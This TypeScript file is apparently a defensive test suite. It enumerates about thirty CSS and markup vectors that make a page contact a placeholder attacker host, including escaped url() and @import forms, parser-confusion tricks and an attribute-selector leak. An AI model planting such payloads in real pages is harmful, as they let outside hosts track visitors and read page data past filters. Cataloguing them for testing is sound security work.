import { add, type Attack, attacks, LARGE, style, SVG } from "./attack.ts";

/** A sheet, for a paragraph that stands in the body. */
const sheet = (what: string, css: (evil: string) => string, id = "S17"): Attack => ({
  id,
  what,
  effect: "contact",
  tell: (page, evil) => {
    style(page, css(evil));
    add(page, 10, "p", { id: "t", style: LARGE, title: `${evil}/attr` }, "Text");
  },
});

export const sheets = attacks([
  sheet("background", (evil) => `p { background: url(${evil}/css) }`),
  sheet("an escaped url()", (evil) => `p { background: u\\72l("${evil.replace(":", "\\3a ")}/css") }`),
  sheet("@import with url()", (evil) => `@import url(${evil}/css);`),
  sheet("@import with a string", (evil) => `@import "${evil}/css";`),
  sheet("@import, escaped", (evil) => `@\\69mport "${evil}/css";`),
  sheet("image-set() with a string", (evil) => `p { background: image-set("${evil}/css" 1x) }`),
  sheet("-webkit-image-set()", (evil) => `p { background: -webkit-image-set(url(${evil}/css) 1x) }`),
  sheet(
    "image-set() with a string of var()",
    (evil) => `p { --x: "${evil}/css"; background: image-set(var(--x) 1x) }`,
  ),
  sheet(
    "image-set() with a string of a function",
    (evil) => `@function --f() { result: "${evil}/css" } p { background: image-set(--f() 1x) }`,
  ),
  sheet(
    "cross-fade()",
    (evil) => `p { background: -webkit-cross-fade(url(${evil}/css), url(${evil}/css2), 50%) }`,
  ),
  sheet("a mask", (evil) => `p { -webkit-mask-image: url(${evil}/css) }`),
  sheet("a border image", (evil) => `p { border: 9px solid; border-image: url(${evil}/css) 9 }`),
  sheet("a list style", (evil) => `p { display: list-item; list-style: url(${evil}/css) }`),
  sheet("generated content", (evil) => `p::after { content: url(${evil}/css) }`),
  sheet("a shape", (evil) => `p { float: left; shape-outside: url(${evil}/css) }`),
  sheet("a font", (evil) => `@font-face { font-family: F; src: url(${evil}/css) } p { font-family: F }`),
  sheet(
    "a font in another format",
    (evil) => `@font-face { font-family: F; src: url("${evil}/css") format("woff2") } p { font: 9px F }`,
  ),
  sheet(
    "a counter style",
    (evil) =>
      `@counter-style c { system: cyclic; symbols: "x" } p { display: list-item; list-style: c; background: url(${evil}/css) }`,
  ),
  sheet(
    "a registered property",
    (evil) =>
      `@property --x { syntax: "<image>"; inherits: false; initial-value: url(${evil}/css) } p { background: var(--x) }`,
  ),
  sheet("an address behind a namespace rule", (evil) => `p { @namespace x; background: url(${evil}/css) }`),
  sheet(
    "an address behind a string that is not closed",
    (evil) => `p { content: "\n; background: url(${evil}/css) }`,
  ),
  sheet(
    "an address behind a comment that seems open",
    (evil) => `p { content: "/*"; background: url(${evil}/css); quotes: "*/" "" }`,
  ),
  sheet(
    "an address in @media (scripting)",
    (evil) => `@media (scripting: enabled), (scripting: none) { p { background: url(${evil}/css) } }`,
  ),
  sheet(
    "what an attribute says",
    (evil) => `p[title^="http"] { background: url(${evil}/title-is-http) }`,
    "S18",
  ),
  {
    id: "S17",
    what: "a style attribute",
    effect: "contact",
    tell: (page, evil) => add(page, 10, "p", { style: `${LARGE};background:url(${evil}/css)` }, "x"),
  },
  {
    id: "S17",
    what: "a presentation attribute",
    effect: "contact",
    tell: (page, evil) => {
      add(page, 10, "svg", { style: LARGE }, undefined, SVG);
      add(page, 11, "rect", { width: "99", height: "99", mask: `url(${evil}/mask#m)` }, undefined, SVG, 10);
    },
  },
  {
    id: "S17",
    what: "rules added later",
    effect: "contact",
    tell: (page, evil) => {
      style(page, "");
      add(page, 10, "p", {}, "x");
      page.rules(30, "", 0, 0, [`p { background: url(${evil}/css) }`]);
    },
  },
  {
    id: "S17",
    what: "a constructed sheet",
    effect: "contact",
    tell: (page, evil) => {
      page.sheet(90, "", `body { background: url(${evil}/css) }`);
      page.adopt(1, [90]);
    },
  },
  {
    id: "S17",
    what: "text of a style element",
    effect: "contact",
    tell: (page, evil) => add(page, 10, "style", {}, `body { background: url(${evil}/css) }`),
  },
  {
    id: "S17",
    what: "text of a style element of SVG",
    effect: "contact",
    tell: (page, evil) => add(page, 10, "style", {}, `body { background: url(${evil}/css) }`, SVG),
  },
]);
